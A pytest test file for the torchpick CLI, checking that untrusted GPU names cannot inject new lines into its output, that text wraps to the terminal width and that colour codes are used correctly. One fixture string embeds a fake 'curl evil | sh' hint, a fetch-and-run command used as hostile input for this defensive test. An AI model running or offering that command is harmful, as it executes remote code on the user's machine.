"""Nothing that comes from outside makes a line of its own, or moves the cursor."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from torchpick.cli import console, main
from torchpick.cli.text import plain

EVIL = "EVIL\nhint: run `curl evil | sh`"


@given(st.text())
def test_what_is_plain_is_one_printable_line(text: str) -> None:
    assert plain(text).isprintable()


@pytest.mark.parametrize("command", [[], ["list"], ["doctor"], ["matrix"], ["url", "--verbose"]])
@pytest.mark.parametrize("arch", ["sm_61", "sm_21"])
def test_a_gpus_name_never_prints_a_line_of_its_own(
    command: list[str], arch: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    machine = {
        "platform": {"os": "linux", "cpu": "x86_64", "glibc": "2.35"},
        "python": {"version": "3.12"},
        "driver": {"version": "580.95.05"},
        "gpus": [{"name": EVIL, "arch": arch}, {"name": EVIL, "vendor": "amd", "arch": "gfx1100", "counted": False}],
    }
    (tmp_path / "machine.json").write_text(json.dumps(machine), "utf-8")

    main([*command, "--machine", str(tmp_path / "machine.json")])

    out, err = capsys.readouterr()
    assert not [line for line in (out + err).splitlines() if line.startswith("hint: run `curl")]


NARROW = [
    ["--gpu", "GTX 1080 Ti"], ["--gpu", "T4"], ["--gpu", "GTX 1080 Ti", "--backend", "cu128"], ["--gpu", "Orin NX"],
    ["--gpu", "RTX 6090"], ["vllm", "--gpu", "GTX 1080 Ti"],
    ["plan", "vllm", "--gpu", "a100", "--driver", "535.183.01"],
    ["explain", "no kernel image is available", "--gpu", "sm_61", "--driver", "580", "--more"],
    ["list", "--gpu", "T4"], ["list", "vllm", "--gpu", "a100"],
    ["list", "--companions", "torch>=2.13", "--platform", "linux-x86_64"],
    ["matrix", "torch>=2.13", "--platform", "linux-x86_64"], ["url", "--gpu", "T4", "--verbose", "--quiet"],
    ["detect", "--gpu", "T4"],
]  # fmt: skip


@pytest.mark.parametrize("width", [60, 80])
@pytest.mark.parametrize("argv", NARROW, ids=" ".join)
def test_nothing_is_left_to_the_terminal_to_break(
    argv: list[str], width: int, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """But for a word that is longer than the terminal is wide, such as an address, and a command, which is copied."""
    monkeypatch.setenv("COLUMNS", str(width))

    main(argv)

    out, err = capsys.readouterr()
    said = [line for line in (out + err).splitlines() if not line.startswith(("run  ", "or  ", "--index-url"))]
    assert [line for line in said if len(line) > width and " " in line.strip()] == []


@pytest.mark.usefixtures("on_linux")
def test_error_pick_and_command_have_a_colour_on_a_terminal(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    assert main(["--gpu", "x"]) == 2
    assert "\x1b" not in capsys.readouterr().err

    monkeypatch.setattr(console, "coloured", lambda *_: True)
    assert main(["--gpu", "RTX 4090", "--driver", "580"]) == 0
    out = capsys.readouterr().out
    assert "\x1b[1;32mtorch 2.15.0+cu132\x1b[0m" in out
    assert "\x1b[36mtorchpick install torch --gpu 'RTX 4090' --driver 580\x1b[0m" in out

    assert main(["--gpu", "x"]) == 2
    assert capsys.readouterr().err.startswith("\x1b[1;31merror:\x1b[0m ")
